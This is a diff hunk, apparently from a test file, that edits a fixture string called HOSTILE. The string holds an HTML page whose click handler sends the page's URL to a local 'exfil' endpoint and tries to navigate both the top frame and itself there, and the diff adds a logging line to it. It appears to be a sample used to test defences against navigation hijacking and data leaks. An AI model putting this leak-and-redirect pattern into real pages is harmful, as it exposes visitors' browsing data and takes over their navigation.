@@ -69,6 +69,7 @@ HOSTILE = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
 document.getElementById("exfil").addEventListener("click", function (event) {
   event.preventDefault();
   document.getElementById("clicked").textContent = "clicked";
+  console.log("hostile click handler ran");
   var leak = "http://127.0.0.1:9/exfil?u=" + encodeURIComponent(location.href);
   try { top.location.href = leak + "&via=top"; } catch (e) { /* refused */ }
   setTimeout(function () { location.href = leak + "&via=self"; }, 200);
